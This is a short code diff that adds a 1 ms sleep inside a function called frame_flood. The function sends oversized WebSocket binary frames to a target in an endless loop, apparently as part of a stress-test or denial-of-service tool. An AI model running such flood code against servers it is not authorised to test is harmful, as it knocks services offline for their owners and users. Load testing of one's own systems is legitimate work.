@@ -140,6 +140,7 @@ async def frame_flood(target: Target) -> None:
             while True:
                 writer.write(b"\x82\xfe\x40\x00\0\0\0\0" + bytes(16384))
                 await writer.drain()
+                await asyncio.sleep(0.001)
     writer.transport.abort()
 
 
